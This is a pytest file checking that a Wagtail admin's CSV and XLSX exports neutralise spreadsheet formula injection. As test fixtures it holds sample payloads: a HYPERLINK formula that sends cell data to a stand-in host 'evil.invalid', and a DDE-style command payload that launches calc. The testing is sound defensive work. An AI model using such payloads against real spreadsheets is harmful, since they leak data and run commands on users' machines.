"""Formula injection in the Wagtail admin's exports (issue 27 §5): names starting with
= + - @ come out as text, quote-prefixed in XLSX as the HR desk's sheets are, and with a leading
apostrophe in CSV, in every admin export (teachers, enrolments, completions)."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from courses.models import CourseCompletion, Enrolment
from tests.courses.builders import course
from tests.factories import TeacherFactory, district_hr

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.invalid/?x="&A1,"点我")'


def _csv(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def _xlsx(response):
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(data)).active


@pytest.fixture
def records(tree):
    teacher = TeacherFactory(school=tree["school_a"], name=EVIL, employee_no="@SUM(1)")
    page = course(title="+cmd|' /C calc'!A0", quiz=False, lessons=1)
    Enrolment.objects.create(user=teacher.user, course=page)
    CourseCompletion.objects.create(user=teacher.user, course=page, hours=Decimal("6"))
    return teacher


@pytest.mark.parametrize("url, needle", [
    ("teachers:index", EVIL), ("enrolments:index", "+cmd|' /C calc'!A0"),
    ("course_completions:index", "+cmd|' /C calc'!A0"),
])
def test_admin_csv_exports_neutralise_formula_like_text(client, tree, records, url, needle):
    client.force_login(district_hr(tree["district_x"]))
    rows = _csv(client.get(reverse(url), {"export": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + needle in cells
    assert not any(cell[:1] and cell[:1] in "=+-@" for cell in cells)


@pytest.mark.parametrize("url, needle", [
    ("teachers:index", EVIL), ("course_completions:index", "+cmd|' /C calc'!A0"),
])
def test_admin_xlsx_exports_keep_formula_like_text_as_quoted_text(client, tree, records, url,
                                                                  needle):
    client.force_login(district_hr(tree["district_x"]))
    sheet = _xlsx(client.get(reverse(url), {"export": "xlsx"}))
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
    cell = cells[needle]
    assert cell.data_type == "s" and cell.quotePrefix  # text exactly, never evaluated
    if url == "teachers:index":
        assert cells["@SUM(1)"].quotePrefix
